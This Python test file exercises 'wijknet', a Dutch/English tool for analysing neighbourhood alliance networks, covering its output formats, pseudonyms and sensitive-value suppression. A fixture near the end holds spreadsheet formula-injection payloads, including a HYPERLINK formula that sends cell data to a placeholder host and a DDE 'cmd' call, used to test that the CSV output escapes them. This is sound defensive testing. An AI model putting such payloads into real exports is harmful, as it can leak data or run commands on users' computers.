"""The `wijknet` command as a person (or a script) runs it: every command, both languages, every
format, and the privacy rules: pseudonyms for persons, no person names or ids, no sensitive values."""

import csv
import doctest
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import wijknet
from wijknet import cli

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "data"
TABLE_COMMANDS = ["summary", "coverage", "chains", "key-players", "scenario", "suggest"]
# The machine formats' first table and its first columns, per command.
FIRST_TABLE = {"summary": ("relations", ["relation", "wave"]), "coverage": ("coverage", ["wave", "role", "label"]),
               "chains": ("chains", ["wave", "works"]), "key-players": ("key_players", ["wave", "players"]),
               "scenario": ("scenario", ["wave", "measure"]), "suggest": ("suggestions", ["rank", "wave"])}
HEADINGS = {("coverage", "en"): "Role coverage", ("coverage", "nl"): "Rolbezetting",
            ("chains", "en"): "Does the chain work?", ("chains", "nl"): "Werkt de keten?",
            ("key-players", "en"): "Key players", ("key-players", "nl"): "Sleutelfiguren",
            ("scenario", "en"): "Scenario: without", ("scenario", "nl"): "Scenario: zonder",
            ("suggest", "en"): "Suggested new contacts", ("suggest", "nl"): "Voorgestelde nieuwe contacten",
            ("summary", "en"): "Alliance summary", ("summary", "nl"): "Samenvatting van de alliantie"}


def run(args, capsys):
    status = cli.main([str(a) for a in args])
    out, err = capsys.readouterr()
    return status, out, err


@pytest.fixture(scope="module")
def persons():
    """Names and ids of the example's persons: none may appear without --show-names."""
    frame = wijknet.load_example().stakeholders()
    people = frame[frame["kind"] == "person"]
    words = {part for name in people["name"] for part in name.split() if len(part) > 3}
    return list(people["name"]), list(people.index), sorted(words)


@pytest.fixture(scope="module")
def secret_data(tmp_path_factory):
    """The example with a sensitive attribute of recognisable values: 'geheim-a' for 6
    stakeholders, 'geheim-b' for 3 and 'geheim-c' for 1 (the last two below the small-cell limit)."""
    folder = tmp_path_factory.mktemp("secret")
    for f in EXAMPLE.glob("*.csv"):
        (folder / f.name).write_bytes(f.read_bytes())
    rows = list(csv.reader(io.StringIO((EXAMPLE / "stakeholders.csv").read_text(encoding="utf-8"))))
    rows[0].append("geloof:sensitive")
    for i, row in enumerate(rows[1:]):
        row.append("geheim-a" if i < 6 else "geheim-b" if i < 9 else "geheim-c" if i == 9 else "")
    with open(folder / "stakeholders.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)
    return folder


def assert_private(text, persons):
    names, ids, words = persons
    for value in names + ids + words:
        assert value not in text, f"{value!r} printed without --show-names"
    # The sensitive attribute is named only where the output says it was left out.
    assert "lhbti_focus" not in re.sub(r"lhbti_focus\s+\((use|gebruik)\s+--show-sensitive\)", "", text)


@pytest.mark.parametrize("lang", ["en", "nl"])
@pytest.mark.parametrize("command", TABLE_COMMANDS)
def test_every_command_prints_a_readable_table_in_both_languages(command, lang, capsys, persons):
    status, out, err = run([command, EXAMPLE, "--lang", lang], capsys)
    assert (status, err) == (0, "")
    assert HEADINGS[command, lang] in out
    assert_private(out, persons)
    pseudonym = {"en": "Welfare worker 1", "nl": "Welzijnswerker 1"}[lang]
    if command == "coverage":
        pseudonym = {"en": "Community police officer 1", "nl": "Wijkagent 1"}[lang]
    if command in ("coverage", "chains", "scenario", "key-players"):
        assert pseudonym in out
    if command != "summary":
        other = {"en": "Personen staan onder een pseudoniem", "nl": "Persons appear under pseudonyms"}[lang]
        assert other not in out and ("pseudoniem" in out or "pseudonyms" in out)


@pytest.mark.parametrize("lang", ["en", "nl"])
@pytest.mark.parametrize("command", TABLE_COMMANDS)
def test_machine_formats_carry_the_main_table(command, lang, capsys, persons):
    key, columns = FIRST_TABLE[command]
    status, out, _ = run(["--format", "json", command, EXAMPLE, "--lang", lang], capsys)
    assert status == 0
    doc = json.loads(out)
    assert doc["lang"] == lang and doc[key] and list(doc[key][0])[:len(columns)] == columns
    assert_private(out, persons)
    status, out, _ = run([command, EXAMPLE, "--format", "csv", "--lang", lang], capsys)
    assert status == 0
    dutch = lang == "nl"  # Dutch Excel's CSV: a byte order mark and semicolons
    assert out.startswith("\ufeff") == dutch
    rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff")), delimiter=";" if dutch else ","))
    assert len(rows) == len(doc[key]) and list(rows[0])[:len(columns)] == columns
    assert_private(out, persons)


def test_coverage_rows_and_explanations(capsys):
    _, out, _ = run(["coverage", "--wave", "T0", "--format", "json"], capsys)
    rows = {r["role"]: r for r in json.loads(out)["coverage"]}
    assert rows["wijkagent"]["status"] == "single"
    assert rows["wijkagent"]["holder_names"] == ["Community police officer 1"]
    assert rows["antidiscriminatievoorziening"]["status"] == "absent"
    assert rows["bewonersinitiatief"]["isolated_names"] == ["Buurtmoestuin De Vlinderhof"]
    assert rows["wijkagent"]["explanation"].startswith("Only Community police officer 1 holds the required role")
    _, out, _ = run(["--lang", "nl", "coverage", "--wave", "T0"], capsys)
    assert "één vervuller" in out and "ontbreekt" in out and "aanbevolen" in out


def test_lang_and_other_global_options_work_before_and_after_the_command(capsys):
    outputs = set()
    for args in (["--lang", "nl", "--format", "csv", "chains"], ["chains", "--lang", "nl", "--format", "csv"],
                 ["--lang", "nl", "chains", "--format=csv"], ["--format", "csv", "chains", str(EXAMPLE), "--lang=nl"]):
        status, out, _ = run(args, capsys)
        assert status == 0
        outputs.add(out)
    assert len(outputs) == 1 and "Welzijnswerker 2" in outputs.pop()
    _, before, _ = run(["--lang", "nl", "--show-names", "coverage"], capsys)
    _, after, _ = run(["coverage", "--show-names", "--lang", "nl"], capsys)
    assert before == after and "Kees Kwikstaart" in after


def test_data_without_a_command_prints_the_summary(capsys):
    _, named, _ = run(["summary", EXAMPLE, "--lang", "nl"], capsys)
    _, bare_data, _ = run([EXAMPLE, "--lang", "nl"], capsys)
    _, lang_first, _ = run(["--lang", "nl", EXAMPLE], capsys)
    assert named == bare_data == lang_first and "Samenvatting van de alliantie" in named
    status, bare, _ = run([], capsys)
    assert status == 0 and "Alliance summary" in bare and "34 stakeholders, 164 ties" in bare


@pytest.mark.parametrize("data", ["alliance.json", "alliance.graphml", "."])
def test_every_reader_works(data, capsys):
    status, out, _ = run(["key-players", EXAMPLE / data, "--wave", "T0", "--format", "json"], capsys)
    assert status == 0
    assert json.loads(out)["key_players"][0]["players"] == ["Welzijn Rivierstad", "Stichting Één Wijk"]


def test_a_missing_path_is_named(tmp_path, capsys):
    missing = tmp_path / "geen_map"
    for args in ([missing], ["coverage", missing], ["report", str(tmp_path / "nope.json")]):
        status, out, err = run(args, capsys)
        assert status == 2 and out == ""
        assert "no such file or folder" in err and Path(str(args[-1])).name in err


def test_errors_are_dutch_with_lang_nl(tmp_path, capsys):
    # A Dutch surface says what went wrong in Dutch: a missing path, a usage error, an Excel workbook
    # (what a programme lead tries first), and a CSV folder that does not read: its first error as
    # `wijknet check --lang nl` words it, and how many more that command lists.
    workbook = tmp_path / "alliantie.xlsx"
    workbook.write_bytes(b"PK\x03\x04")
    broken = ROOT / "tests" / "data" / "excel" / "broken"
    cases = [
        (["--lang", "nl", "coverage", tmp_path / "geen_map"], 2, f"wijknet: fout: {tmp_path / 'geen_map'}: dit bestand "
                                                                 "of deze map bestaat niet"),
        (["--lang", "nl", "coverage", "--wave", "T9"], 2, "wijknet: fout: geen meting 'T9' in de gegevens; de metingen "
                                                          "zijn T0, T1"),
        (["--lang", "nl", "report", workbook], 1, f"wijknet: fout: {workbook}: een werkmap (Excel) wordt niet direct "
                                                  "gelezen; sla elk tabblad op als 'CSV UTF-8' in één map"),
        (["--lang", "nl", "report", broken, "--decimal-comma", "-o", tmp_path / "r.html"], 1,
         f"wijknet: fout: {broken / 'relations.csv'}:2:3: verwacht true of false (ja of nee) in kolom 'Gericht'\n"),
    ]
    for args, expected_status, expected in cases:
        status, out, err = run(args, capsys)
        assert status == expected_status and out == "", (args, err)
        assert err.startswith(expected), (args, err)
    assert f"en nog 8 fouten; 'wijknet check --lang nl {broken}' noemt ze allemaal" in err
    assert not (tmp_path / "r.html").exists()
    # English stays English.
    status, _, err = run(["report", workbook], capsys)
    assert err.startswith(f"wijknet: error: {workbook}: cannot tell the format from the extension '.xlsx'")


def test_usage_errors(capsys):
    with pytest.raises(SystemExit) as info:
        cli.main(["coverage", "--format", "xml"])
    assert info.value.code == 2
    status, _, err = run(["coverage", "--wave", "T9"], capsys)
    assert status == 2 and "no wave 'T9'" in err and "T0, T1" in err
    status, _, err = run(["scenario", "--remove", "nobody_here"], capsys)
    assert status == 2 and "no stakeholder 'nobody_here'" in err
    status, _, err = run(["chains", "--chain", "wijkagent"], capsys)
    assert status == 2 and "two or more roles" in err


def test_scenario_removes_by_id_or_by_the_name_the_tables_print(capsys):
    _, by_id, _ = run(["scenario", "--remove", "opbouwwerker_grutto", "--wave", "T0", "--format", "json"], capsys)
    _, by_name, _ = run(["scenario", "--remove", "welfare worker 2", "--wave", "T0", "--format", "json"], capsys)
    _, by_dutch_name, _ = run(["scenario", "--remove", "Welzijnswerker 2", "--wave", "T0", "--format", "json"],
                              capsys)
    assert by_id == by_name == by_dutch_name
    rows = {r["measure"]: r for r in json.loads(by_id)["scenario"]}
    chain = next(r for m, r in rows.items() if m.startswith("chain "))
    assert (chain["before"], chain["after"], chain["change"]) == (True, False, "broken")
    assert (rows["stakeholders"]["before"], rows["stakeholders"]["after"]) == (31, 30)
    _, text, _ = run(["scenario", "--remove", "opbouwwerker_grutto", "--wave", "T0", "--lang", "nl"], capsys)
    assert "verbroken" in text and "keten werkt" in text and "Welzijnswerker 2" in text
    assert "De keten bewonersinitiatief → lhbti+-organisatie → welzijnswerk → wijkagent breekt." in text
    assert "Fragmentatie: van 0,065 naar 0,067." in text


def test_scenario_without_remove_takes_the_top_key_player(capsys):
    _, out, _ = run(["scenario", "--format", "json"], capsys)
    doc = json.loads(out)
    assert "top key player" in doc["notes"][0]
    _, kp, _ = run(["key-players", "-k", "1", "--wave", "T1", "--format", "json"], capsys)
    assert json.loads(kp)["key_players"][0]["players"][0] in doc["notes"][1]


def test_suggestions_name_both_ends_and_the_reason(capsys):
    chain = "bewonersinitiatief,lhbti_organisatie,welzijnswerk,wijkagent"
    _, out, _ = run(["suggest", "--chain", chain, "--wave", "T1", "--format", "json", "--lang", "nl"], capsys)
    (first,) = json.loads(out)["suggestions"]
    assert (first["source"], first["target"], first["relation"]) == (
        "Buurtmoestuin De Vlinderhof", "COC Rivierstad, afdeling Vogelwijk", "doorverwijzing")
    assert "Buurtmoestuin De Vlinderhof" in first["reason"]
    _, out, _ = run(["suggest", "--remove", "Welzijn Rivierstad", "--wave", "T0", "-k", "2"], capsys)
    assert "1. Connects Community police officer 1 (community police officer) and Welfare worker 1" in out
    assert "2. Connects" in out


def test_sensitive_values_only_when_asked_and_small_cells_suppressed(secret_data, capsys, persons):
    for command in TABLE_COMMANDS:
        for fmt in ("table", "json"):
            status, out, _ = run([command, secret_data, "--format", fmt], capsys)
            assert status == 0 and "geheim" not in out
    _, out, _ = run(["summary", secret_data], capsys)
    assert "geloof" in out and "--show-sensitive" in out          # says what was left out
    _, out, _ = run(["summary", secret_data, "--show-sensitive", "--format", "json"], capsys)
    counts = {r["value"]: r["count"] for r in json.loads(out)["sensitive"] if r["attribute"] == "geloof"}
    # geheim-b (3) and geheim-c (1) are below 5; the rest (the 24 without a value) is shown.
    assert counts == {"geheim-a": 6, "geheim-b": None, "geheim-c": None, "(missing)": 24}
    _, out, _ = run(["summary", secret_data, "--show-sensitive"], capsys)
    assert "geheim-a" in out and "<5" in out


def test_a_single_small_cell_takes_the_next_smallest_with_it(capsys):
    a = wijknet.Alliance()
    for i in range(12):
        a.add_stakeholder(f"s{i}", attributes={"g": "x" if i < 2 else "y" if i < 7 else "z"}, sensitive=["g"])
    w = wijknet._wording.Wording(a, "en")
    table = cli._sensitive_table(a, w)
    counts = {r["value"]: (r["count"], r["protects"]) for r in cli._records(table.frame)}
    # x (2) is small; alone it could be worked out from the total, so y (5) goes too, marked as hidden to protect.
    assert counts == {"x": (None, False), "y": (None, True), "z": (5, False)}
    # Printed: "<5" for the small one, "•" (no range it is not in) for the other, and a note saying why.
    text = cli._grid(table, w)
    assert re.search(r"x\s+<5\n", text) and re.search(r"y\s+•\n", text) and re.search(r"z\s+5$", text)
    assert table.notes == ["• hidden so that a count under 5 cannot be worked out from the total."]


def test_the_installed_command_runs_as_a_process(persons):
    cmd = Path(sys.executable).parent / "wijknet"
    res = subprocess.run([str(cmd), "--lang", "nl", "chains", str(EXAMPLE / "alliance.graphml"), "--wave", "T0"],
                         capture_output=True, text=True, encoding="utf-8")
    assert res.returncode == 0, res.stderr
    assert "Werkt de keten?" in res.stdout and "Welzijnswerker 2 → Wijkagent 1" in res.stdout
    assert_private(res.stdout, persons)
    res = subprocess.run([str(cmd), "coverage", "/no/such/folder"], capture_output=True, text=True)
    assert res.returncode == 2 and "/no/such/folder: no such file or folder" in res.stderr


@pytest.mark.skipif(not hasattr(wijknet, "report"), reason="wijknet.report is not in this build yet")
def test_report_writes_the_file_and_says_where(tmp_path, capsys):
    out_file = tmp_path / "rapport.html"
    status, out, _ = run(["report", EXAMPLE, "-o", out_file, "--lang", "nl"], capsys)
    assert status == 0 and str(out_file) in out and out_file.stat().st_size > 0
    html = out_file.read_text(encoding="utf-8")
    assert "Kees Kwikstaart" not in html


def test_docstring_examples_run():
    assert doctest.testmod(cli, optionflags=doctest.ELLIPSIS).failed == 0


@pytest.fixture(scope="module")
def hostile_names(tmp_path_factory):
    """The example with every stakeholder renamed to a text a spreadsheet would run (or a bare CR)."""
    a = wijknet.load_example()
    starts = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=1\r2"]
    for i, (sid, row) in enumerate(a.stakeholders(include_sensitive=True).iterrows()):
        record = a.stakeholder(sid, include_sensitive=True)
        a.update_stakeholder(sid, f"{starts[i % len(starts)]} {i}", record["kind"], record["roles"], record["waves"],
                             record["attributes"], [k for k in record["attributes"] if k in row.attrs.get("sensitive", [])])
    folder = tmp_path_factory.mktemp("hostile") / "data"
    wijknet.write(a, folder)
    return folder


@pytest.mark.parametrize("command", TABLE_COMMANDS)
def test_csv_output_runs_nothing_in_a_spreadsheet(command, hostile_names, capsys):
    for names in ([], ["--show-names"]):
        wave = [] if command == "summary" else ["--wave", "T1"]
        status, out, err = run([command, hostile_names, "--format", "csv", *wave, *names], capsys)
        assert status == 0, err
        cells = [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]
        if command in ("coverage", "suggest"):  # their first table has a column of names
            assert any(cell.startswith(("'=", "'+", "'-", "'@")) for cell in cells)
        formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                    and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", c)]
        assert formulas == []


def test_dutch_csv_opens_in_dutch_excel(capsys):
    # Dutch Excel reads UTF-8 only after a byte order mark, splits on semicolons and takes 0,5 for one half.
    _, nl, _ = run(["--lang", "nl", "--format", "csv", "key-players", EXAMPLE], capsys)
    _, en, _ = run(["--format", "csv", "key-players", EXAMPLE], capsys)
    assert nl.startswith("\ufeff") and not en.startswith("\ufeff")
    dutch = pd.read_csv(io.StringIO(nl[1:]), sep=";", decimal=",")
    english = pd.read_csv(io.StringIO(en))
    assert list(dutch.columns) == list(english.columns)
    pd.testing.assert_series_equal(dutch["after"], english["after"])
    pd.testing.assert_series_equal(dutch["before"], english["before"])


@pytest.mark.parametrize("command", [[], ["report"], ["chains"], ["key-players"], ["suggest"]])
def test_dutch_help_is_dutch(command, capsys):
    for args in (["--lang", "nl", *command, "--help"], [*command, "--help", "--lang=nl"]):
        with pytest.raises(SystemExit) as stop:
            cli.main(args)
        out = capsys.readouterr().out
        assert stop.value.code == 0 and out.startswith("gebruik: wijknet")
        assert "toon deze hulp en stop" in out and "opties:" in out
        for english in ("usage:", "show this help", "options:", "(default", "the wave", "stakeholders who"):
            assert english not in out, english
    with pytest.raises(SystemExit):
        cli.main([*command, "--help"])
    assert capsys.readouterr().out.startswith("usage: wijknet")


def test_check_and_the_reader_apply_one_rule_to_the_incident_files(tmp_path, capsys):
    """A column 'wijknaam' in incidents.csv holds the name 'wijk': `check` warned (exit 0) and the reader refused
    (found by the incidents fuzz target). Both warn now, and the read goes on with it as a free field."""
    folder = tmp_path / "data"
    shutil.copytree(EXAMPLE, folder)
    text = (folder / "incidents.csv").read_text(encoding="utf-8")
    (folder / "incidents.csv").write_text(text.replace("neighbourhood", "wijknaam", 1), encoding="utf-8")
    status, out, _ = run(["check", folder], capsys)
    assert status == 0 and "incidents.csv:1:4: warning: the file has no column 'neighbourhood'" in out
    status, out, err = run(["summary", folder], capsys)
    assert (status, err) == (0, "") and "incidents.csv:1:4: the file has no column 'neighbourhood'" in out
    a = wijknet.read_csv_folder(folder)
    assert [w.severity for w in a.read_warnings] == ["warning"] and a.num_incidents > 0
    assert set(wijknet.validate(folder)["message"]) == {w.message for w in a.read_warnings}
